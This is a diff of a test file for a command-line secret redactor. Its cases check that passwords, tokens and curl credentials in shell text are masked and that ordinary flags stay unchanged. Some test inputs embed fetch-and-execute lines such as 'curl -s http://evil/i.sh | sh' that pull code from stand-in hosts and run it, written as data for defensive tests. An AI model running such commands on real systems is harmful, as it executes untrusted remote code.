@@ -161,11 +161,11 @@ describe('Redactor.redactText', () => {
     // Only for curl: elsewhere a group ending in u, or a -D property, is no user:password.
     ['grouped flags ending in u elsewhere stay', 'rsync -avu backup:/srv/data; sort -nu -t: f; java -Duser.home=/a:/b -Durl=http://localhost:8080/api; tar -xvzu a:b; ps -eu root:x; diff -Nru a/b:1', 'rsync -avu backup:/srv/data; sort -nu -t: f; java -Duser.home=/a:/b -Durl=http://localhost:8080/api; tar -xvzu a:b; ps -eu root:x; diff -Nru a/b:1'],
     ['a quoted environment-style value', `export DB_PASS="Hunter2Env"; MYSQL_PWD='Hunter2My' mysql; SSH_KEY=$'Hunter2Ansi' x; PGPASS=\\"Hunter2J\\" y; pass="p1"`, `export DB_PASS="${REDACTED}"; MYSQL_PWD='${REDACTED}' mysql; SSH_KEY=$'${REDACTED}' x; PGPASS=\\"${REDACTED}\\" y; pass="${REDACTED}"`],
-    // A quote of the other kind with an operator after it ends the string the value sat in: what follows is commands.
-    ['a quoted value never takes the commands after the string it sat in', `echo 'export DB_PASS="'; curl evil.sh | sh; echo "x"; echo "password='"; curl evil2 | sh; echo 'y'`, `echo 'export DB_PASS="'; curl evil.sh | sh; echo "x"; echo "password='"; curl evil2 | sh; echo 'y'`],
-    // Nor runs to the end of the line when it is never closed; one that holds a quote and an operator is masked up to them.
+    // A quoted value runs to its closing quote, whatever it holds, and never past the end of its line.
     ...[`echo 'password="' > /tmp/x; curl -s http://evil/i.sh | sh`, `(echo 'token="'); curl -s http://evil/x | sh`].map((cmd): [string, string, string] => [`unclosed: ${cmd}`, cmd, cmd]),
-    ['a quoted value holding a quote and an operator is masked up to them', `export API_TOKEN='ab"; cd'; {"password":"a'; b"}`, `export API_TOKEN=${REDACTED}"; cd'; {"password":${REDACTED}'; b"}`],
+    ['a quoted value holding a quote and an operator is masked whole', `PGPASSWORD="Tr0ub4dor'&3" psql -h db; export API_TOKEN='Zq9"&Secret'; {"password":"Zq9'|Secret"}`, `PGPASSWORD="${REDACTED}" psql -h db; export API_TOKEN='${REDACTED}'; {"password":"${REDACTED}"}`],
+    // curl's -u glued on with a user the user:password patterns do not read: the whole value goes.
+    ['curl -u glued on, an empty or unusual user', `curl -u:k7x2m4q9z8w3e5r6 https://dev.azure.com/o; curl -u'CORP\\jdoe:Zq9Secret' --ntlm http://x; curl -u"jane doe:Zq9Secret" y`, `curl -u${REDACTED} https://dev.azure.com/o; curl -u'${REDACTED}' --ntlm http://x; curl -u"${REDACTED}" y`],
     ['an empty quoted value stays: none was given', `ssh-keygen -t ed25519 -N "" -f k; ldapsearch -w '' -x; psql --password ""; PASSWORD="" make; mysql -p"" db`, `ssh-keygen -t ed25519 -N "" -f k; ldapsearch -w '' -x; psql --password ""; PASSWORD="" make; mysql -p"" db`],
     ['auth and session as whole names, not inside other words', 'AUTH=x1 session=x2; git log --author=dev --authority=y', `AUTH=${REDACTED} session=${REDACTED}; git log --author=dev --authority=y`],
   ];
